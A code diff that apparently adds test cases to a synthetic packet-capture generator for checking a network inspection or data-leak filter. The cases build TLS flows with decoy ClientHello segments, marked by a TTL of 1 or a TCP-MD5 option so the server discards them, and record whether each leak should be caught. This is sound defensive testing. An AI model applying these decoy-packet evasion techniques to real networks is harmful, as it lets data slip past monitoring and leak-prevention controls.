+    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
+    h = CCS + hello(n, sni="www.example.org", sid=sid, extra=[ext(21, passm(n) + b"\x00" * 40)])
+    t.raw(True, "PA", h, ipkw={"ttl": 1})
+    t.data(True, h)
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_md5_hello_vk(n):
+    """Office: rt_ttl_hello_vk with a TCP-MD5 signature option (RFC 2385) on the decoy
+    instead of a short TTL: a server without the key drops it. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44105, SOC, 443, isn=44105, rtt_us=20000)
+    t.handshake()
+    d = hello(n, sni=RT_DECOY)
+    h = hello(n, sni=VK)
+    t.raw(True, "PA", d, options=[(19, prand(n + "md5", 16)), ("NOP", None), ("NOP", None)])
+    t.data(True, h)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n))
+    t.close()
+    return cap, {"leak": [leak(n)]}
 
 
 def main(argv):
